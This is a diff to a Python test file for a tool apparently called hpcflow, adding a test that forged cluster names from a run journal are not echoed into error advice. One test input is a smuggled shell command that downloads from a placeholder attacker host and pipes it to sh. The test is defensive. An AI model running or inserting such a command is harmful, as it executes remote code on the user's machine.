@@ -12,7 +12,16 @@ import pytest
 from hpcflow.costs.audit import audit
 from hpcflow.errors import InputError, SpecError, StorageError
 from hpcflow.ledger.store import open_ledger
-from hpcflow.model.journal import Accounted, Decided, Ended, Held, Restored, Submitted, Withdrawn
+from hpcflow.model.journal import (
+    Accounted,
+    Decided,
+    Ended,
+    Held,
+    Intended,
+    Restored,
+    Submitted,
+    Withdrawn,
+)
 from hpcflow.model.run import Mirror
 from hpcflow.model.state import Cause, RunState
 from hpcflow.restore.request import Changes, endpoint_of, of_elsewhere
@@ -185,6 +194,21 @@ def test_a_run_that_gave_a_sign_a_moment_ago_is_not_taken_over(owner: Owner, oth
         _take(other, run_dir.path.name)
     assert "hpcflow hold" in (caught.value.next_action or "")
     assert "--even-if-running" in (caught.value.next_action or "")
+
+
+@pytest.mark.parametrize("name", ["x; curl evil.example | sh; then: y", "x" * 65, "-n", "a\nb"])
+def test_a_name_from_a_store_is_no_advice(owner: Owner, other: Owner, name: str) -> None:
+    run_dir = owner.mirrored(100, end=None)
+    forged = [
+        each.model_copy(update={"cluster": name}) if isinstance(each, Intended) else each
+        for each in journal.read(run_dir)
+    ]
+    run_dir.journal.write_text("".join(each.to_line() for each in forged))
+    owner.mirror(run_dir)
+    other.clock.advance(-timedelta(hours=2, minutes=50).total_seconds())
+    with pytest.raises(InputError, match="may be under way on another machine") as caught:
+        _take(other, run_dir.path.name)
+    assert name not in "".join(caught.value.parts())
     assert not (other.folder / "scratch").exists()
     _take(other, run_dir.path.name, even_if_running=True)
 
